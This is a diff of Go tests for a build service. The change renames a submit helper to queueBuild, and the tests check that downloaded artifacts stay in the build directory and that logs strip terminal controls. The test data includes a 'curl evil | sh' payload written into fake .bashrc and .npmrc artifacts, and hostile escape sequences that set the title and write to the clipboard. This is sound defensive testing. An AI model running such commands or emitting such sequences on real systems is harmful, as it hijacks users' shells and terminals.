@@ -20,7 +20,7 @@ func TestDownloadIntoBuildDirectory(t *testing.T) {
 	t.Chdir(cwd)
 	w := e.worker("android")
 
-	id := e.submit(project(t, map[string]string{"package.json": `{"name":"demo"}`}), "android")
+	id := e.queueBuild(project(t, map[string]string{"package.json": `{"name":"demo"}`}), "android")
 	job := w.claim()
 	apk := randomBytes(t, 1<<20+3)
 	w.finish(job, true, "app-release.apk", apk)
@@ -33,7 +33,7 @@ func TestDownloadIntoBuildDirectory(t *testing.T) {
 	}
 
 	for _, name := range []string{".bashrc", ".npmrc"} {
-		id := e.submit(project(t, map[string]string{"package.json": `{"name":"demo"}`}), "android")
+		id := e.queueBuild(project(t, map[string]string{"package.json": `{"name":"demo"}`}), "android")
 		job := w.claim()
 		w.finish(job, true, name, []byte("curl evil | sh\n"))
 		if b := jsonOf[api.Build](t, e.mustRun(0, nil, "status", id, "--json")); len(b.Artifacts) != 1 || b.Artifacts[0].Name != name {
@@ -62,7 +62,7 @@ func TestLogsStripTerminalControls(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t)
 	w := e.worker("android")
-	id := e.submit(project(t, map[string]string{"package.json": `{"name":"demo"}`}), "android")
+	id := e.queueBuild(project(t, map[string]string{"package.json": `{"name":"demo"}`}), "android")
 	job := w.claim()
 	v := w.vm(job)
 	hostile := "\x1b[31mred\x1b[0m\tok\n\x1b]0;pwned title\x07\x1b]52;c;ZXZpbA==\x07clip\n\x1b[2J\x1b[1A\x1b[Kfaked\rover\x08\x00\n" +
